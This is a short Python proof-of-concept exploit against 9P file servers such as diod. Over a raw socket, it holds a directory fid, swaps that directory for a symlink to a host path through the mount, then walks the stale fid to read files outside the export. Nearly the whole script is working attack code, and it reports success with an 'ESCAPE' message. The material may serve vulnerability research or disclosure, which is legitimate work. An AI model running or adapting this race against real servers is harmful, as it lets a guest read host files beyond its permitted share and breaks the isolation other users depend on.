# raw9p-race.py: a guest holds a fid on directory own/x, swaps x for a symlink to a host
# directory through the normal mount, then walks the stale fid. A path-based server (diod)
# resolves EXPORT/own/x/NAME on the host and follows the guest's symlink out of the export.
import os, socket, struct, sys
aname, mnt, target, name = sys.argv[1:5]
s = socket.create_connection(('10.0.2.100', 564))
def st(x): b = x.encode(); return struct.pack('<H', len(b)) + b
def rpc(t, body, tag=1):
    s.sendall(struct.pack('<IBH', 7 + len(body), t, tag) + body)
    hdr = b''
    while len(hdr) < 7: hdr += s.recv(7 - len(hdr))
    size, rt, _ = struct.unpack('<IBH', hdr)
    data = b''
    while len(data) < size - 7: data += s.recv(size - 7 - len(data))
    if rt == 7: raise OSError(struct.unpack('<I', data[:4])[0], 'Rlerror for type %d' % t)
    return data
rpc(100, struct.pack('<I', 65536) + st('9P2000.L'), tag=0xffff)
rpc(104, struct.pack('<II', 0, 0xffffffff) + st('root') + st(aname) + struct.pack('<I', 0))
os.makedirs(mnt + '/own/x', exist_ok=True)
w = rpc(110, struct.pack('<IIH', 0, 1, 2) + st('own') + st('x'))
print('raw9p-race: fid 1 = own/x, qids', struct.unpack('<H', w[:2])[0])
os.rename(mnt + '/own/x', mnt + '/own/x.old'); os.symlink(target, mnt + '/own/x')
print('raw9p-race: swapped own/x for a symlink to', target)
try:
    w = rpc(110, struct.pack('<IIH', 1, 2, 1) + st(name))
    rpc(12, struct.pack('<II', 2, 0))
    d = rpc(116, struct.pack('<IQI', 2, 0, 4096))
    n = struct.unpack('<I', d[:4])[0]
    print('raw9p-race: ESCAPE: read %d bytes of %s/%s: %r' % (n, target, name, d[4:4 + n][:100]))
except OSError as e:
    print('raw9p-race: refused:', e)
